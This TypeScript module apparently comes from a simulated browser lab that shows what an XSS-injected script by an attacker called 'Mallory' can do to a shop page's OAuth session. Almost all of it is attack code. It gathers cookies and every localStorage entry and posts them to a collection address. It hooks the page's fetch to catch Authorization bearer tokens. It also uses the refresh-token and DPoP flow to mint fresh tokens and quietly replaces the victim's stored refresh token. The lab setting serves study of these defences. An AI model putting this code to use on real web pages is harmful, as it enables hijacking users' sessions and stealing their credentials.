import type { FetchResult, Page } from '../browser/index.ts'
import type { Report } from './collect.ts'
import { paths } from '../server/index.ts'
import { COLLECT } from './addresses.ts'
import { pageKeyInUse, storedPageKey } from './pageKey.ts'
import { nonceAskedBy, ownProof } from './proof.ts'
import type { ProofKey } from './proofKey.ts'
import { tokensInBody } from './tokensIn.ts'

/**
 * The script that Mallory got into the shop's page (XSS). It has exactly the powers of the page's own scripts: it reads
 * what they may read and sends it home, where the answer does not matter.
 */
export const injectedScript = (page: Page): Promise<unknown> => sendHome(page, page.fetch, null)

/**
 * Where the token is in no place that another script can name, it still has to go through the page's `fetch`: this one
 * puts its own in that place and waits for the next request. It is there for as long as the page is.
 */
export function hookFetch(page: Page): void {
  const { fetch } = page
  page.fetch = async (url, init = {}) => {
    const answer = await fetch(url, init)
    const [scheme, token] = (init.headers?.Authorization ?? '').split(' ')
    if (scheme && token) {
      page.fetch = fetch
      await sendHome(page, fetch, token)
    }
    return answer
  }
}

/**
 * It asks for a new access token, as the page itself does when the old one has expired: what HttpOnly keeps it from
 * reading, the browser sends along, and where a proof is wanted, the page's key signs for every script in the page (OAuth for
 * Browser-Based Apps §5.1.2, RFC 9449 §11.4). So it is in for as long as the page is open.
 *
 * @param use makes the page send something of its own
 */
export async function renewInPage(page: Page, use: () => Promise<unknown>): Promise<void> {
  const answer = await askToRenew(page, await storedPageKey(page), use)
  const { access, refresh } = tokensInBody(answer.body)
  // The page's own copy is of no use any more: he leaves it the new one, and nobody notices.
  if (refresh !== undefined) page.localStorage.setItem('refresh_token', refresh)
  await sendHome(page, page.fetch, access ?? null)
}

async function askToRenew(
  page: Page,
  key: ProofKey | null,
  use: () => Promise<unknown>,
  nonce?: string,
): Promise<FetchResult> {
  const token = page.localStorage.getItem('refresh_token')
  const headers = {
    ...(token === null ? {} : { 'Content-Type': 'application/x-www-form-urlencoded' }),
    ...(key ? { DPoP: await proofToRenew(page, key, nonce) } : {}),
  }
  const form = new URLSearchParams({ grant_type: 'refresh_token', refresh_token: token ?? '' }).toString()
  const body = token === null ? {} : { body: form }
  const answer = await page.fetch(paths.refresh, { method: 'POST', headers, ...body })
  if (!key && wantsProof(answer)) {
    const used = await pageKeyInUse(page, use)
    return used ? askToRenew(page, used, use) : answer
  }
  const asked = nonceAskedBy(answer)
  return key && asked !== undefined && asked !== nonce ? askToRenew(page, key, use, asked) : answer
}

const proofToRenew = (page: Page, key: ProofKey, nonce: string | undefined) =>
  ownProof(key, {
    method: 'POST',
    url: new URL(paths.refresh, page.url).href,
    now: page.now(),
    jti: page.randomUUID(),
    ...(nonce === undefined ? {} : { nonce }),
  })

/** Refused for want of a proof (RFC 9449 §5). */
const wantsProof = ({ status, body }: FetchResult) =>
  status >= 400 && (body.includes('"invalid_dpop_proof"') || body.includes('"use_dpop_nonce"'))

function sendHome(page: Page, fetch: Page['fetch'], overheard: string | null) {
  const report: Report = { origin: page.origin, cookies: page.cookie, localStorage: everythingIn(page), overheard }
  return fetch(COLLECT, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) })
}

/** It knows no names, and needs none (HTML §12.2.1, `key`). */
export function everythingIn({ localStorage }: Page): Report['localStorage'] {
  const items: [string, string][] = []
  for (let key = localStorage.key(0); key !== null; key = localStorage.key(items.length)) {
    items.push([key, localStorage.getItem(key) ?? ''])
  }
  return Object.fromEntries(items)
}
